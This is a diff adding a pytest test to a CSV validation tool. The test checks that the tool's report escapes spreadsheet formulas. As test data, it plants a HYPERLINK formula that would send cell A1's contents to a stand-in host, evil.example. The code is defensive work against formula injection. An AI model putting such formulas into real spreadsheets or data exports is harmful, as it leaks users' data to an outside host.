@@ -93,6 +93,20 @@ def test_validate_bad_csv_fails_and_names_the_cell(bad_csv_dir: Path, tmp_path: 
     assert report[["row", "column", "rule"]].values.tolist() == [[3, "amount", "must be >= 0"]]
 
 
+def test_validate_report_quotes_cells_a_spreadsheet_would_run(bad_csv_dir: Path, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    transactions = pd.read_csv(bad_csv_dir / "transactions.csv", dtype=str, keep_default_na=False)
+    transactions.loc[4, "amount"] = formula
+    transactions.to_csv(bad_csv_dir / "transactions.csv", index=False)
+
+    result = retain("validate", bad_csv_dir, "--report", tmp_path / "report.csv", cwd=tmp_path)
+
+    assert_clean_failure(result, 1)
+    report = pd.read_csv(tmp_path / "report.csv", dtype=str)
+    assert report[["row", "column", "value"]].values.tolist() == [["3", "amount", "'-7.5"],
+                                                                    ["5", "amount", "'" + formula]]
+
+
 def test_validate_with_quarantine_goes_on(bad_csv_dir: Path, tmp_path: Path) -> None:
     quarantine = tmp_path / "q"
 
